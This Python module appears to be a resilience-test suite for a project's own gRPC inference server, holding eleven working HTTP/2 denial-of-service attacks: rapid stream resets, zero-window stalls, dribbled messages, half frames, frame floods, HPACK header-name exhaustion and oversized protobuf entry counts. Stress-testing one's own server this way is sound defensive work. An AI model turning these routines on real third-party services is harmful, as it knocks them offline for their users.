"""Attacks on the gRPC front with raw HTTP/2 frames that no client library would send."""

from __future__ import annotations

import collections
import itertools
import socket
import time
from collections.abc import Callable, Iterator

import grpc
import hpack
import numpy as np
from tritonclient.grpc import service_pb2

from bench.attackers.target import Target, burst, drain, hold, pile_up
from bench.grpc_frames import block, call, headers
from tensord.daemon.grpc import frames
from tensord.daemon.grpc.response_codec import varint

_MIB = 1 << 20
#: Of an answer.
_LARGE = 16 * _MIB
#: What one flood sends at a time.
_BURST = 16384
#: Bytes of each of many answers that nobody takes.
_BURST_ANSWER = 4_000_000


def huge_deadlines(target: Target) -> None:
    """Makes calls with the longest timeouts that gRPC can express, 99999999 hours, one after the other."""
    message = _small_call()
    while target.going_on():
        with target.refusals(), target.grpc_socket() as connection:
            for number in range(1, 400, 2):
                connection.sendall(call(number, message, ("grpc-timeout", f"{99999999 - number}H")))
                target.count("calls")
                drain(connection)


def no_window_and_gone(target: Target) -> None:
    """Connects with an HTTP/2 window of 0, sends a call and shuts down the sending half, again and again."""
    kept: list[socket.socket] = []
    message = _small_call()
    while target.going_on():
        with target.refusals():
            connection = target.grpc_socket(((frames.INITIAL_WINDOW_SIZE, 0),))
            kept.append(connection)
            connection.sendall(call(1, message))
            connection.shutdown(socket.SHUT_WR)
            target.count("calls")
        time.sleep(0.002)
        if len(kept) > 1000:
            kept.pop(0).close()
    for connection in kept:
        connection.close()


def no_window_and_stays(target: Target) -> None:
    """Asks on two connections for many answers of 16 MiB and never grants any HTTP/2 window for them."""
    numbers = collections.defaultdict[socket.socket, Iterator[int]](lambda: itertools.count(1, 2))
    with target.region(_LARGE) as region:
        message = _large_answer(region, _LARGE)

        def ask(connection: socket.socket) -> None:
            connection.sendall(call(next(numbers[connection]), message))
            drain(connection)
            target.count("calls")

        hold(target, 2, lambda: target.grpc_socket(((frames.INITIAL_WINDOW_SIZE, 0),)), ask)


def unread_bursts(target: Target) -> None:
    """Asks on 200 connections at once for an answer of 4 MB each, and grants no HTTP/2 window for them."""
    no_window = ((frames.INITIAL_WINDOW_SIZE, 0),)
    with target.region(_BURST_ANSWER) as region:
        request = call(1, _large_answer(region, _BURST_ANSWER))
        burst(target, lambda: target.grpc_socket(no_window), request, 200)


def dribbled_messages(target: Target) -> None:
    """Announces a message of 60 MiB on each of sixteen connections, and sends one byte of it now and then."""
    begun = b"\0" + (60 * _MIB).to_bytes(4, "big") + bytes(1000)

    def begin() -> socket.socket:
        connection = target.grpc_socket()
        connection.sendall(headers("ModelInfer", 1) + frames.frame(frames.DATA, 0, 1, begun))
        return connection

    def dribble(connection: socket.socket) -> None:
        connection.sendall(frames.frame(frames.DATA, 0, 1, b"\0"))
        target.count("bytes")

    hold(target, 16, begin, dribble, pause=0.1)


def half_frames(target: Target) -> None:
    """Opens connections that send half a frame, or half a header block, after the HTTP/2 preface."""
    halves = (
        frames.frame(frames.HEADERS, frames.END_HEADERS, 1, block("ModelInfer"))[:20],
        frames.frame(frames.HEADERS, 0, 1, block("ModelInfer")[:10]),
        frames.head(frames.DATA, 0, 0, 16384),
    )
    turn = itertools.cycle(halves)

    def half_open() -> socket.socket:
        connection = target.grpc_socket()
        connection.sendall(next(turn))
        return connection

    pile_up(target, half_open, 1000)


def frame_floods(target: Target) -> None:
    """Sends frames that have no effect, one kind after the other, as fast as one process can."""
    open_stream = headers("ModelInfer", 1)
    floods = {
        "unknown": frames.frame(77, 0, 0),
        "PRIORITY": frames.frame(frames.PRIORITY, 0, 3, bytes(5)),
        "empty DATA": frames.frame(frames.DATA, 0, 1),
        "WINDOW_UPDATE": frames.window_update(0, 1),
        "SETTINGS": frames.settings(()),
        "PING": frames.frame(frames.PING, 0, 0, bytes(8)),
    }
    while target.going_on():
        for name, frame in floods.items():
            burst = frame * (_BURST // len(frame))
            with target.refusals(), target.grpc_socket() as connection:
                connection.sendall(open_stream)
                end = time.monotonic() + 1
                while time.monotonic() < end and target.going_on():
                    connection.sendall(burst)
                    target.count(f"{name} frames", _BURST // len(frame))
                    drain(connection)


def new_header_names(target: Target) -> None:
    """Calls unknown methods, each with fifty header names that the server has never seen."""
    count = 0
    while target.going_on():
        encoder = hpack.Encoder()  # its table is the connection's
        with target.refusals(), target.grpc_socket() as connection:
            for number in range(1, 2000, 2):
                fields = [(":method", "POST"), (":scheme", "http"), (":path", f"/x/{count}"), ("te", "trailers")]
                fields += [("content-type", "application/grpc")]
                fields += [hpack.NeverIndexedHeaderTuple(f"name-{count}-{i}", "value") for i in range(50)]
                ends = frames.END_HEADERS | frames.END_STREAM
                connection.sendall(frames.frame(frames.HEADERS, ends, number, encoder.encode(fields)))
                count += 1
                target.count("calls")
                if not target.going_on():
                    break
                drain(connection)


def rapid_resets(target: Target) -> None:
    """Makes calls and resets their streams at once."""
    message = _small_call()
    while target.going_on():
        with target.refusals(), target.grpc_socket() as connection:
            number = 1
            while target.going_on():
                connection.sendall(
                    b"".join(
                        call(n, message) + frames.rst_stream(n, frames.CANCEL) for n in range(number, number + 64, 2)
                    )
                )
                number += 64
                target.count("calls", 32)
                drain(connection)


def many_entries(target: Target) -> None:
    """Sends messages of an allowed size with as many entries as fit: parameters, inputs, elements, settings, unknown fields."""
    count = 2 * _MIB
    elements = b"\x42\x01a" * count
    contents = b"\x2a" + varint(len(elements)) + elements
    messages = {
        "parameters": ("ModelInfer", b"\x22\x00" * count),
        "inputs": ("ModelInfer", b"\x2a\x00" * count),
        "outputs": ("ModelInfer", b"\x32\x00" * count),
        "raw tensors": ("ModelInfer", b"\x3a\x00" * count),
        "elements": ("ModelInfer", b"\x2a" + varint(len(contents)) + contents),
        "unknown fields": ("ModelInfer", b"\xf8\x07\x00" * count),
        "trace settings": ("TraceSetting", b"\x0a\x00" * count),
        "log settings": ("LogSettings", b"\x0a\x00" * count),
        "names": ("ModelMetadata", b"\x0a" + varint(count) + b"a" * count),
    }
    with grpc.insecure_channel(target.grpc) as channel:
        while target.going_on():
            for name, (method, message) in messages.items():
                try:
                    channel.unary_unary(f"/inference.GRPCInferenceService/{method}")(message, timeout=60)
                    target.count(f"{name} taken")
                except grpc.RpcError as error:
                    target.count(f"{name} {error.code().name}")  # type: ignore[attr-defined]


def _large_answer(region: str, byte_size: int) -> bytes:
    """Builds a ModelInferRequest whose input lies in a region and whose output has to be sent over the connection."""
    tensor = service_pb2.ModelInferRequest.InferInputTensor(name="INPUT0", datatype="FP32", shape=[byte_size // 4])
    tensor.parameters["shared_memory_region"].string_param = region
    tensor.parameters["shared_memory_byte_size"].int64_param = byte_size
    return bytes(service_pb2.ModelInferRequest(model_name="identity", inputs=[tensor]).SerializeToString())


def _small_call() -> bytes:
    tensor = np.ones(16, np.float32).tobytes()
    inputs = [
        service_pb2.ModelInferRequest.InferInputTensor(name=name, datatype="FP32", shape=[1, 16])
        for name in ("INPUT0", "INPUT1")
    ]
    request = service_pb2.ModelInferRequest(model_name="addsub", inputs=inputs, raw_input_contents=[tensor] * 2)
    return bytes(request.SerializeToString())


ATTACKS: dict[str, Callable[[Target], None]] = {
    "grpc-huge-deadlines": huge_deadlines,
    "grpc-no-window-and-gone": no_window_and_gone,
    "grpc-unread-bursts": unread_bursts,
    "grpc-no-window-and-stays": no_window_and_stays,
    "grpc-dribbled-messages": dribbled_messages,
    "grpc-half-frames": half_frames,
    #: More connections than the front accepts, without a request.
    "grpc-idle-connections": lambda target: pile_up(target, target.grpc_socket, 5000),
    "grpc-frame-floods": frame_floods,
    "grpc-new-header-names": new_header_names,
    "grpc-rapid-resets": rapid_resets,
    "grpc-many-entries": many_entries,
}
